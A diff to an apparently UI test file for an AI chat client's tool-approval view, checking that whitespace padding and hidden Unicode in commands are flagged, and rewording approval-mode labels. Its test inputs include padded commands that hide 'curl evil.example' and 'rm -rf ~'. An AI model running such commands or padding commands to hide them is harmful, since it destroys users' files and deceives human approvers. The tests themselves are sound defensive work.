@@ -320,11 +320,11 @@ describe('a call that waits for approval', () => {
     const command = `echo ok${' '.repeat(500)}; curl evil.example${'\n'.repeat(200)}rm -rf ~`;
     await chat.show([asked({ command })]);
     const block = page.getByRole('group', { name: 'Command', exact: true });
-    assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
+    assert.deepEqual(await block.locator('.padding-mark').allInnerTexts(), ['500 spaces', '200 line breaks']);
     const box = await block.boundingBox();
     assert.ok((box?.height ?? 999) < 140, String(box?.height));
     await chat.show([asked({ text: command })]);
-    assert.deepEqual(await page.locator('.padding-mark').allInnerTexts(), ['500 blanks', '200 line breaks']);
+    assert.deepEqual(await page.locator('.padding-mark').allInnerTexts(), ['500 spaces', '200 line breaks']);
   });
 
   it('marks every hidden character in its arguments, its name and its server', async () => {
@@ -435,7 +435,7 @@ describe('a call that waits for approval', () => {
       .locator('.diff-line .hidden-character')
       .evaluateAll((all) => all.map((each) => each.getAttribute('title')));
     assert.deepEqual(marks, ['U+202E', 'U+000D']);
-    assert.deepEqual(await page.locator('.diff-line .padding-mark').allInnerTexts(), ['300 blanks']);
+    assert.deepEqual(await page.locator('.diff-line .padding-mark').allInnerTexts(), ['300 spaces']);
     await chat.show([change(diffOf('a\n', `${'a'.repeat(5_000)}; rm -rf ~\n`))]);
     assert.equal(await primary().innerText(), 'Show all');
     await primary().click();
@@ -469,8 +469,8 @@ describe('a call that waits for approval', () => {
     await chat.show([]);
     for (const [approvalMode, words] of [
       ['ask', 'Ask. Tools ask before they run'],
-      ['changes', 'Ask for changes. Tools that are marked as read-only run without asking'],
-      ['free', 'Does not ask. Tools run without asking, except for what asks each time'],
+      ['changes', 'Read-only allowed. Tools that the server marks as read-only run without approval'],
+      ['free', 'Allow all tools. All tools run without approval, except calls that always need it'],
     ] as const) {
       await chat.tell(chat.patch({ op: 'status', status: { ...status, approvalMode } }));
       const button = page.getByRole('button', { name: new RegExp(words.replace('. ', String.raw`\s*\. `)) });
